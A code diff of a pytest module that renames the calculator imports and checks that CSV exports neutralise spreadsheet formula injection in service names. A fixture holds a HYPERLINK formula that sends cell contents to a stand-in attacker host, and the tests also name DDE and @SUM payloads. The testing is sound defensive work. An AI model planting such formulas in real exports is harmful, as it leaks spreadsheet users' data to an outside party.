@@ -9,8 +9,8 @@ import io
 
 import pytest
 
-from calculators import web
-from calculators.text import csv_cell, csv_writer
+from calculators import catalogue
+from calculators.formatting import csv_cell, csv_writer
 from conftest import build_site, copy_data, rewrite_csv_cell
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
@@ -65,7 +65,7 @@ def test_overtarget_csv_neutralises_names_a_reader_pasted():
            f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",50,4,90%,75\n"{DDE}",2,1,80%,75\n{AT_SUM},3,1,70%,75\n')
     from macros.bundle import build
     from macros.datastore import cached
-    rows = _csv(web.run(build(cached()), {"calc": "overtarget", "product": "policy", "mem_threshold": "90", "csv": own}))
+    rows = _csv(catalogue.run(build(cached()), {"calc": "overtarget", "product": "policy", "mem_threshold": "90", "csv": own}))
     names = [r[6] for r in rows if r[0] == "own-cpu"]
     assert names == ["'" + HYPERLINK, "'" + DDE, "'" + AT_SUM]
     assert not [c for r in rows for c in r if c.startswith(("=", "@"))]
@@ -79,10 +79,10 @@ def test_calculator_csvs_neutralise_names_from_data(bundle, params):
     """A service named like a formula in the data (BSF's Egress Gateway renamed) is inert in the
     footprint and ASM CSVs; the numbers beside it (-/+ free) are unchanged."""
     poisoned = _rename(copy.deepcopy(bundle), "Egress Gateway", HYPERLINK)
-    rows = _csv(web.run(poisoned, params))
+    rows = _csv(catalogue.run(poisoned, params))
     assert any("'" + HYPERLINK in r for r in rows)
     assert not [c for r in rows for c in r if c.startswith(("=", "@"))]
-    clean = _csv(web.run(bundle, params))
+    clean = _csv(catalogue.run(bundle, params))
     assert len(clean) == len(rows)
     # only the renamed cells differ
     diff = {(a, b) for r1, r2 in zip(clean, rows) for a, b in zip(r1, r2) if a != b}
